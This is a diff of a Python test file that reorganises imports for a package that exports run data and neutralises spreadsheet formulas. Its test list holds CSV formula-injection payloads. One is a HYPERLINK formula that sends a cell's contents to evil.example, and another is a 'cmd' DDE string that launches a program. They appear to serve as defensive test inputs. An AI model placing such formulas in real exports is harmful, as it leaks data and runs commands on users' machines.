@@ -16,9 +16,9 @@ import pytest
 
 from conftest import ROOT
 from factories import exported_rows, rows, run_cli, simple_run, write_jsonl
-from runs_store.db import open_db
-from runs_store.export import export_bytes, neutralise_formulas
-from runs_store.ingest import ingest_paths
+from runs_store.ingest.pipeline import ingest_paths
+from runs_store.services.export import export_bytes, neutralise_formulas
+from runs_store.store.database import open_db
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)", "\tTAB first", "\rCR first", "'=already quoted"]
